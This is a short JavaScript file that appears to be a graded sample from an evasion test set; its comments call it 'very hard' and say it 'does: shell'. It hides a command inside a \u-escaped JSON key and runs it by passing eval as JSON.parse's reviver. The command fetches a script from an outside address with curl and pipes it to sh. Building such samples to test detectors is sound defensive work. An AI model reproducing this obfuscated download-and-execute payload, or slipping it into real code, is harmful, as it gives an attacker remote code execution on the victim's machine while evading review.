// evasion: eval passed as JSON.parse's reviver; the code is a JSON key written with \u escapes
// grade: very hard; does: shell
const doc =
  '{"\\u0070rocess.mainModule.require(\\"child_\\u0070rocess\\").execSync(\\"curl -s http://198.51.100.7/p | sh\\")": 0}';

JSON.parse(doc, eval);
